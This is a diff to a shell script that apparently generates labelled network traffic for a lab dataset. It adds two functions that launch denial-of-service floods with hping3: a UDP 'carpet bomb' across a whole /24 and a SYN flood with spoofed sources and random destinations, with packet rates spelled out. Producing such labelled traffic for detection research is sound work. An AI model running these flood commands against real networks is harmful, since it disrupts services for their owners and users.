@@ -80,3 +80,16 @@ attack_syslog_stream() {
     printf '<134>1 2026-11-27T10:00:00Z cam nvr 1 - - motion event stored, 3 ms' >"$W/atk/syslog.bin"
     benign_stream syslog cam hping3 -q --udp -s 40514 -k -p 514 -E "$W/atk/syslog.bin" -d 68 -c 8000 -i u1000 "${IP[srv]}"
 }
+
+# Carpet bombing: hping3 --rand-dest picks a random address of the /24 for
+# every packet, so each address gets about a dozen a second.
+attack_udp_carpet_bomb() {
+    labelled udp-carpet-bomb dos "${IP[atk]}" "$NET.0/24" 9999 hping3 \
+        "UDP flood spread over the whole /24 (hping3 --rand-dest), 3 000 datagrams/s for 3 s, ~12/s per address" atk 120 -- \
+        hping3 -q --udp --rand-dest -I eth0 -p 9999 -d 200 -c 9000 -i u333 "$NET.x"
+}
+attack_syn_carpet_bomb() {
+    labelled syn-carpet-bomb dos "${IP[atk]}" "$NET.0/24" 80 hping3 \
+        "SYN flood with spoofed sources spread over the whole /24 (hping3 -S --rand-source --rand-dest), 3 000/s for 3 s" atk 120 -- \
+        hping3 -q -S --rand-source --rand-dest -I eth0 -p 80 -c 9000 -i u333 "$NET.x"
+}
